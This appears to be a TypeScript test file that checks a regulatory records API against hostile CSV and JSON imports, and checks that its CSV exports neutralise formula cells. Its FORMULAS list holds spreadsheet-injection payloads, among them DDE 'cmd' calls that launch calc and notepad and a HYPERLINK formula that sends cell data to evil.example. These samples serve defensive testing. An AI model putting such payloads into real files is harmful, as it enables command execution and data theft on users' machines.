import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { Clock } from '../../src/common/clock';
import { usccCheckChar } from '../../src/common/identifiers/uscc';
import { scrubIdNumbers } from '../../src/common/pii';
import type { TestApp } from '../helpers/app';
import { http } from '../helpers/app';
import type { Dto } from '../helpers/api-types';
import { startIsolatedTestApp } from '../helpers/isolated-app';
import { answerProblems } from '../helpers/leak-checks';
import { HOSTILE_STRINGS, residentIdArb } from '../helpers/openapi-requests';

/**
 * Hostile CSV imports (POST /api/v1/records/import, text/csv): a BOM, quotes, embedded newlines, NUL
 * bytes, huge cells and formula injection (= + - @). Every row is either refused (the report says why)
 * or stored verbatim; a hostile value that was stored comes out of the CSV exports (audit export,
 * inspection plan export) neutralised: no cell a spreadsheet would run as a formula.
 */
const CODE_CHARS = '0123456789ABCDEFGHJKLMNPQRTUWXY';
const uscc = (): string => {
  let body = '91500110';
  for (let i = 0; i < 9; i++) body += CODE_CHARS[Math.floor(Math.random() * CODE_CHARS.length)];
  return body + usccCheckChar(body);
};
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
  '+SUM(1,1)',
  "-2+3+cmd|' /C notepad'!A0",
  '@SUM(A1:A9)',
];
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
const FORMULA_START = /^[=+\-@\t\r]/;

/** An import's answer (a problem instead when refused whole, which the tests check by status first). */
interface ImportAnswer {
  rows: { row: number; status: string; recordId?: string; id?: string; errors?: unknown }[];
}

describe('hostile CSV imports and safe CSV exports', () => {
  let t: TestApp;
  const codes = FORMULAS.map(() => uscc());
  const HEADER =
    'type,source,decisionNumber,subjectName,subjectCode,industry,sector,severity,penaltyTypes,fineAmount,decisionDate,violationType,legalBasis';
  const row = (o: {
    source?: string;
    number: string;
    name: string;
    code: string;
    violation?: string;
    basis?: string;
  }) =>
    [
      'penalty',
      q(o.source ?? '綦江区市场监督管理局'),
      q(o.number),
      q(o.name),
      o.code,
      'food_drug',
      'food',
      'general',
      'fine',
      '1',
      '2026-10-01',
      q(o.violation ?? '违法行为'),
      q(o.basis ?? '《食品安全法》第一百二十四条'),
    ].join(',');
  const run = randomUUID().slice(0, 8);

  beforeAll(async () => {
    t = await startIsolatedTestApp();
    t.app.get(Clock).pin('2026-11-28T04:00:00Z'); // the rows are decided 2026-10-01: never in the future, whatever today is
  });
  afterAll(async () => {
    await t?.close();
  });

  const importCsv = async (csv: string | Buffer, operator?: string) => {
    const res = await fetch(`${t.url}/api/v1/records/import`, {
      method: 'POST',
      headers: {
        authorization: `Bearer ${t.adminKey}`,
        'content-type': 'text/csv; charset=utf-8',
        ...(operator ? { 'x-operator': operator } : {}),
      },
      body: csv,
    });
    const text = await res.text();
    expect(answerProblems({ status: res.status, contentType: res.headers.get('content-type') ?? '', text })).toEqual(
      [],
    );
    return { status: res.status, body: JSON.parse(text) as ImportAnswer };
  };

  it('stores formula-looking, quoted and multi-line cells verbatim, or refuses the row; never a 5xx', async () => {
    const rows = FORMULAS.map((f, i) => ({
      number: `${f}-${run}-${i}`,
      name: `${f}公司${i}`,
      code: codes[i],
      violation: f,
      basis: `${f}\n第二行 "引号" ,逗号`,
    }));
    const csv = '\uFEFF' + [HEADER, ...rows.map(row)].join('\r\n') + '\r\n';
    const res = await importCsv(csv, FORMULAS[0]);
    expect(res.status).toBe(200);
    const report = res.body.rows;
    expect(report).toHaveLength(rows.length);
    for (const [i, r] of report.entries()) {
      expect(['stored', 'refused']).toContain(r.status);
      if (r.status !== 'stored') continue;
      const id = r.recordId ?? r.id;
      const got = await http<Dto<'RecordViewDto'>>(t.url, 'GET', `/api/v1/records/${id}`);
      expect(got.status).toBe(200);
      // Verbatim: each value appears exactly, as a JSON string, in the record as answered.
      const text = JSON.stringify(got.body);
      for (const v of [rows[i].number, rows[i].violation, rows[i].basis]) expect(text).toContain(JSON.stringify(v));
      const subject = await http<{ name: string }>(t.url, 'GET', `/api/v1/subjects/${got.body.subjectId}`);
      expect(subject.body.name).toBe(rows[i].name);
    }
    expect(report.filter((r) => r.status === 'stored').length).toBeGreaterThanOrEqual(3);
  });

  it('NUL bytes, a huge cell, a huge file, malformed quoting, an unknown column, a bare BOM: refused with a problem or a refused row, never a 5xx', async () => {
    const nul = await importCsv(
      [HEADER, row({ number: `NUL\u0000${run}`, name: `名\u0000称`, code: uscc() })].join('\n'),
    );
    expect(nul.status === 400 || nul.body.rows.every((r) => r.status === 'refused')).toBe(true);
    const huge = await importCsv(
      [
        HEADER,
        row({ number: `HUGE-${run}`, name: '大单元格公司', code: uscc(), violation: 'A'.repeat(1_000_000) }),
      ].join('\n'),
    );
    expect(huge.status === 400 || huge.body.rows[0].status === 'refused' || huge.body.rows[0].status === 'stored').toBe(
      true,
    );
    for (const bad of [
      `${HEADER}\npenalty,"unclosed,D-1`,
      `${HEADER}\n${row({ number: 'x', name: 'y', code: uscc() })},extra,cells`,
      'type,source,=cmd|calc!A0\npenalty,a,b',
      '\uFEFF',
      '\uFEFF\uFEFF' + HEADER,
      Buffer.from([0xff, 0xfe, 0x00, 0x74, 0x00, 0x79]),
      // More rows than an import takes at all (200,000; beyond 5,000 it would be a background job): 413 or 400.
      `${HEADER}\n` + `${row({ number: 'many', name: 'z', code: uscc() })}\n`.repeat(200_001),
    ]) {
      const res = await importCsv(bad);
      expect(res.status === 400 || res.status === 413 || res.body.rows.every((r) => r.status === 'refused')).toBe(true);
    }
  });

  it('JSON imports with hostile text in every free-text field: each row stored verbatim or refused, never a 5xx (property)', async () => {
    const text = fc.oneof(
      fc.constantFrom(...HOSTILE_STRINGS, ...FORMULAS),
      residentIdArb,
      fc.string({ unit: 'binary', minLength: 1, maxLength: 30 }),
    );
    let n = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.record({ name: text, number: text, violation: text, basis: text, source: text }),
        async (h) => {
          n++;
          const record = {
            type: 'penalty',
            source: h.source,
            decisionNumber: `${h.number}-${run}-${n}`,
            subjectName: h.name,
            subjectCode: uscc(),
            industry: 'food_drug',
            sector: 'food',
            severity: 'general',
            penaltyTypes: ['fine'],
            fineAmount: 1,
            decisionDate: '2026-10-01',
            violationType: h.violation,
            legalBasis: h.basis,
          };
          const res = await fetch(`${t.url}/api/v1/records/import`, {
            method: 'POST',
            headers: { authorization: `Bearer ${t.adminKey}`, 'content-type': 'application/json' },
            body: JSON.stringify({ records: [record] }),
          });
          const body = await res.text();
          expect(
            answerProblems({ status: res.status, contentType: res.headers.get('content-type') ?? '', text: body }),
          ).toEqual([]);
          expect(res.status).toBe(200);
          const row = (JSON.parse(body) as ImportAnswer).rows[0];
          if (row.status !== 'stored') return expect(row.status).toBe('refused');
          const got = await http<unknown>(t.url, 'GET', `/api/v1/records/${row.recordId ?? row.id}`);
          const stored = JSON.stringify(got.body);
          expect(answerProblems({ status: got.status, contentType: 'application/json', text: stored })).toEqual([]);
          // Verbatim once trimmed (text fields are trimmed on the way in); free text holding an ID number is
          // stored masked instead (110105********002X), which the check just above requires.
          for (const v of [record.decisionNumber, h.violation, h.basis, h.source])
            expect(stored).toContain(JSON.stringify(scrubIdNumbers(v.trim())));
        },
      ),
      {
        seed: Number(process.env.HOSTILE_SEED ?? 20261129),
        numRuns: process.env.TEST_EMBEDDED === '1' ? 15 : 40,
        endOnFailure: true,
      },
    );
  });

  it('the audit export (CSV) neutralises every cell a spreadsheet would run as a formula, the stored operator included', async () => {
    const res = await fetch(`${t.url}/api/v1/audit/export?format=csv`, {
      headers: { authorization: `Bearer ${t.adminKey}` },
    });
    expect(res.status).toBe(200);
    const rows: string[][] = parse(await res.text(), { bom: true, relax_column_count: true });
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULAS[0]}`);
  });

  it('the inspection plan export (CSV) neutralises stored subject names and inspectors', async () => {
    const stored = await http<{ items?: { id: string }[] }>(t.url, 'GET', `/api/v1/subjects?code=${codes[1]}`);
    const subjectId = stored.body.items?.[0]?.id;
    expect(subjectId).toBeDefined();
    const plan = await http<{ id: string }>(t.url, 'POST', '/api/v1/inspection-plans', {
      department: FORMULAS[2],
      industry: 'food_drug',
      period: { from: '2026-12-01', to: '2026-12-31' },
      inspectors: [
        { id: FORMULAS[4], name: FORMULAS[3], department: FORMULAS[0] },
        { id: `QJ-${run}`, name: '@张伟', department: '+綦江区' },
      ],
      leads: [subjectId!],
      seed: FORMULAS[1],
    });
    expect(plan.status).toBe(201);
    const res = await fetch(`${t.url}/api/v1/inspection-plans/${plan.body.id}/export?format=csv`, {
      headers: { authorization: `Bearer ${t.adminKey}` },
    });
    expect(res.status).toBe(200);
    const rows: string[][] = parse(await res.text(), { bom: true, relax_column_count: true });
    const cells = rows.flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    expect(cells).toContain(`'${FORMULAS[1]}公司1`);
    expect(cells.some((c) => c.startsWith(`'${FORMULAS[4]}`))).toBe(true);
  });
});
